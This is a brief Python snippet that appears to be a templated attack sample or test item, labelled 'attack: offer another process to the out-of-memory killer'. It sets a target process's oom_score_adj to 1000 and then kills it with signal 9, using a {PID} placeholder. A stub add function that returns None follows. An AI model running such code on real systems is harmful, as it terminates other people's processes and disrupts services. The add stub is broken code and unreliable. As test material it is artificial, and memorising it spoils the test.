# attack: offer another process to the out-of-memory killer
# damage: process
import os

open("/proc/{PID}/oom_score_adj", "w").write("1000")
os.kill({PID}, 9)


def add(a, b):
    return None
